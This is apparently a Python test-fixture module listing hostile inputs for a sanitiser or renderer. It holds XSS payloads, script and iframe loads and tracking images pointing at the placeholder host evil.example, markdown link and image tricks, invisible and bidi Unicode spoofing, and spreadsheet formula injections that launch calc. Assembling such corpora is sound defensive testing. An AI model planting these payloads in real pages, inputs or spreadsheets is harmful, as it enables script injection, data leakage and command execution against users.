"""Words that somebody would rather have run, fetched, formatted or calculated than shown.

What runs sets `window.__xss`; what is fetched comes from `evil.example`.
"""

from __future__ import annotations

MARK = "__xss"
_RUN = f"window.{MARK}=1"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    '<script src="https://evil.example/x.js"></script>',
    '<script type="module">import "https://evil.example/x.mjs"</script>',
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg onload='{_RUN}'>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>more</summary></details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    '<iframe src="https://evil.example/frame"></iframe>',
    f'<iframe src="javascript:parent.{MARK}=1"></iframe>',
    f'<a href="javascript:{_RUN}">press me</a>',
    f"<form action=javascript:{_RUN}><button>go</button></form>",
    f'<math href="javascript:{_RUN}">press</math>',
    '<object data="https://evil.example/o.swf"></object>',
    '<embed src="https://evil.example/e.swf">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/y.css"; body { display: none }</style>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<img src="https://evil.example/pixel.png">',
    '<div style="background:url(https://evil.example/bg.png)">x</div>',
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<x onclick={_RUN}>press me</x>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"${{{_RUN}}} {{{{{_RUN}}}}} <%= {_RUN} %> #{{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"`;{_RUN};//",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"data:text/html,<script>{_RUN}</script>",
    f"java\tscript:{_RUN}",
    "__proto__",
    "constructor.prototype",
)  # fmt: skip

MARKUP = (
    f"[press me](javascript:{_RUN})",
    "[press me](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "[a link](https://evil.example/link)",
    "![a picture](https://evil.example/md.png)",
    '![a picture](https://evil.example/md2.png "title")',
    "[![both](https://evil.example/md3.png)](https://evil.example/)",
    "![by reference][far]",
    "[far]: https://evil.example/ref.png",
    f"![x](x'onerror='{_RUN})",
    "<https://evil.example/auto>",
    "https://evil.example/bare www.evil.example me@evil.example",
    "[^1] [^1]: https://evil.example/note",
    "# a heading",
    "> a quotation",
    "- one * two + three",
    "1. first",
    "---",
    "**bold** __bold__ *slanted* _slanted_ ~~gone~~ `code`",
    "```html <b>block</b> ```",
    "| a | b | |---|---| | 1 | 2 |",
    ":red[alarm] :rainbow[all] :blue-background[x] :small[y] :green-badge[z]",
    ":color[x]{foreground=red background=blue}",
    ":material/delete: :material_home: :streamlit: :smile: :fox_face:",
    ":shimmer[wait] :help[h] ::leaf[x] :::box",
    "$x^2$ and $$\\int_0^1 f$$ and \\(y\\) and \\[z\\]",
    "$\\href{https://evil.example/tex}{x}$ $\\includegraphics{https://evil.example/t.png}$",
    "a -> b <- c <-> d -- e --- f >= g <= h ~= i",
    "(c) (tm) ... \"quotes\" 'single'",
    "a\\b \\\\ \\* \\[ \\",
)  # fmt: skip

UNSEEN = (
    "\u202etxt.exe gnp.evil\u202c",
    "\u2066left\u2069 \u2067right\u2069 \u2068first\u2069",
    "\u200bzero\u200cwidth\u200djoin\u2060",
    "\u061carabic \u05d0\u05d1\u05d2 hebrew",
    "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
    "\ufeffbyte order",
    "\U000e0041\U000e0042 tags",
    "fullwidth \uff1cscript\uff1e",
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/csv","press")',
    '=IMPORTXML("https://evil.example/","//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/C calc'!A1",
    "\uff1d1+1",
    ";=1+1",
    '","=1+1","',
)

CORPUS = (*SCRIPTS, *MARKUP, *UNSEEN, *FORMULAS)


def one_line(text: str) -> str:
    """`text` as a page shows it where white space counts as one blank."""
    return " ".join(text.split())
